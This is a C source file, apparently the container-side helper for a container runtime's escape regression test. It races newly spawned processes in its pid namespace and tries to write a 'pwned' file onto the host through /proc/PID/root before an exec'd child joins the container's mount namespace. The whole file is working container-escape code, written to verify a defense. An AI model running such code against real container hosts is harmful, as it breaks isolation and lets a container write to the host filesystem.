/* proc_root_racer.c - the container side of tests/escape/test_exec_race.py: run as the
 * container's init with CAP_SYS_PTRACE, it looks at every process of its pid namespace as soon
 * as it appears, and through /proc/PID/root tries to reach the host directory REL (a path
 * relative to the host's /): a process still rooted on the host (an `exec` child before it has
 * joined the container's mount namespace) would give it. On success it writes REL/pwned there,
 * which the host test sees. Spins until killed. `proc_root_racer REL` */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int
main (int argc, char **argv)
{
  if (argc != 2)
    return 2;
  char *pwned;
  if (asprintf (&pwned, "%s/pwned", argv[1]) < 0)
    return 2;
  for (;;)
    {
      DIR *d = opendir ("/proc");
      if (!d)
        return 3;
      struct dirent *de;
      while ((de = readdir (d)) != NULL)
        {
          char p[300];
          int pid = atoi (de->d_name);
          if (pid <= 1 || pid == getpid ())
            continue;
          snprintf (p, sizeof p, "/proc/%d/root", pid);
          int root = open (p, O_PATH | O_DIRECTORY | O_CLOEXEC);
          if (root < 0)
            continue;
          int fd = openat (root, pwned, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
          if (fd >= 0)
            {
              dprintf (fd, "written by the container through /proc/%d/root\n", pid);
              close (fd);
            }
          close (root);
        }
      closedir (d);
    }
}
